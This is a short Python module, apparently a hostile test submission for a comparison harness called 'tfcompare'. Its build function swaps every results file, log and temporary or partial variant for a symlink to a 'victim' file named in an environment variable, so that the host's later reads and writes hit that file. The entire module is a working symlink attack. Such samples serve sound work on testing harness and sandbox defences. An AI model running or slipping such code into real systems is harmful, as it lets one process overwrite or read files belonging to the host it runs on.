"""Puts links to a file of the host wherever the host might write or read."""

import os

PARAMS = {}
RESULTS = "/tfcompare/results"


def build(tf, params):
    victim = os.environ["TF_CPP_VICTIM"]
    for name in [*os.listdir(RESULTS), "2.0.0-1.arrow", "log"]:
        for link in ("." + name + ".tmp", name + ".partial", "." + name, name):
            path = os.path.join(RESULTS, link)
            try:
                if os.path.exists(path):
                    os.rename(path, path + ".moved")
                os.symlink(victim, path)
            except OSError:
                pass
    return lambda: 1.0
